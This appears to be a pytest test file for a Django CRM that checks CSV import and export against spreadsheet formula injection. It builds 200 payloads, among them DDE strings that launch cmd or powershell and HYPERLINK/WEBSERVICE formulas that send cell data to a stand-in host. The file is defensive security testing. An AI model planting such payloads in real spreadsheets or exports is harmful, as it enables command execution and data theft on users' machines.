"""T14: a formula in a CSV file is text: taken literally, told of, and intact on the way round."""

import csv
import io
import itertools
import re
from pathlib import Path

import pytest
from django.urls import reverse

from lorgnette.access.models import Grant
from lorgnette.crm import runs
from lorgnette.directory.models import CrmUser
from lorgnette.kernel.addresses import Address
from lorgnette.kernel.spreadsheets import from_text
from lorgnette.users import members
from tests.cast import invited, people
from tests.cast.crm import Folder
from tests.insight import estate

PEOPLE = "/admin/users-roles/sales-users/"

STARTS = ["=", "+", "-", "@", "\t=", "\r=", " =", "'="]
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?"&A1,"Click")',
    "IMPORTXML(CONCAT(A1:Z9),1)",
    "SUM(1,1)*cmd|' /C powershell'!A0",
    'DDE("cmd";"/C calc";"x")',
    "0x41",
    "@SUM(A1)",
    "-2+3",
    "=A1",
    "\u00a0A1",
    "1e9",
    'WEBSERVICE("http://evil.example")',
    "A1&B1",
    "{1,2}",
    "“quoted”",
    "é",
    "A\tB",
    "A\nB",
    "A;B,C",
    "''",
    "%0A",
    "$A$1",
    "TRUE",
    "N()",
]
PAYLOADS = [start + body for start, body in itertools.product(STARTS, BODIES)]


@pytest.fixture
def imported(tmp_path: Path):
    """Two hundred people whose title is a formula, and the run that took them."""
    folder = Folder(tmp_path)
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(["id", "last_name", "title"])
    writer.writerows([f"u-{n}", f"Person {n}", title] for n, title in enumerate(PAYLOADS))
    folder.write("users.csv", text.getvalue())
    return folder.sync()


def _as_text(payload: str) -> str:
    """White space is made one space, as in every text; a guarding apostrophe is no text."""
    text = " ".join(payload.split())
    return text[1:] if text.startswith(("'=", "'+", "'-", "'@")) else text


@pytest.mark.django_db
def test_two_hundred_formulas_are_kept_as_the_text_they_are(imported):
    assert len(PAYLOADS) == 200
    assert imported.state == "done"
    titles = dict(CrmUser.objects.values_list("external_id", "title"))
    assert titles == {f"u-{n}": _as_text(payload) for n, payload in enumerate(PAYLOADS)}


@pytest.mark.django_db
def test_each_is_told_of_with_its_line_unless_it_was_guarded(imported):
    told = [
        problem
        for problem in runs.problems(imported.ref, size=500).rows
        if problem.code == "looks_like_formula"
    ]
    guarded = sum(payload.startswith("'") for payload in PAYLOADS)
    assert len(told) == len(PAYLOADS) - guarded
    assert {problem.column for problem in told} == {"title"}
    assert all(problem.taken and problem.line for problem in told)


def _is_run(cell: str) -> bool:
    """What a spreadsheet program does with a cell: white space in front does not stop it."""
    return cell.lstrip(" \t\r\n\u00a0")[:1] in tuple("=+-@")


@pytest.mark.django_db
def test_two_hundred_formulas_leave_as_text_and_come_back_as_they_were(client, tmp_path):
    """Names and titles like these come from a CRM; the list of sales users is downloaded."""
    invited.aubier()
    helene = people.helene()
    for number, payload in enumerate(PAYLOADS):
        members.ensure(Address(f"p{number}@x.example", f"p{number}@x.example"), payload, "N", "en")
    rows = members.Member.objects.exclude(pk=helene.member_id).order_by("pk")
    Grant.objects.bulk_create(
        [Grant(member=row, zone="UTC", granted_at=invited.MONDAY) for row in rows]
    )
    answer = people.signed_in(client, helene).get(f"{PEOPLE}export.csv", {"sort": "address"})
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    cells = {
        row["email"]: row["first_name"] for row in csv.DictReader(io.StringIO(text, newline=""))
    }
    assert not any(_is_run(cell) for cell in cells.values())
    back = {email: from_text(cell) for email, cell in cells.items()}
    assert back == {row.address: row.first_name for row in rows}
    assert len(back) == 200


@pytest.mark.django_db
@pytest.mark.parametrize("door", ["accounts_csv", "report_csv"])
def test_what_a_seller_downloads_of_two_hundred_such_accounts_leaves_as_text(client, door):
    with estate.today():
        seller = estate.seller("=Dafydd", address="dafydd.prys-howell@aubier.example")
        for payload in PAYLOADS:
            account = estate.account(payload, seller, industry=payload, city=payload)
            estate.did(estate.person(account, payload), "form.demo", subject=payload)
        estate.score_everything()
        user = people.dafydd()
        people.granted(user.member)
        answer = people.signed_in(client, user).get(reverse(door))
        text = answer.getvalue().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert not [
        cell for row in rows for cell in row.values() if _is_run(cell) and not _is_ours(cell)
    ]
    assert {from_text(row["account"]) for row in rows} == set(PAYLOADS)


def _is_ours(cell: str) -> bool:
    """A number with its minus: no text of anybody begins so and holds nothing else."""
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None
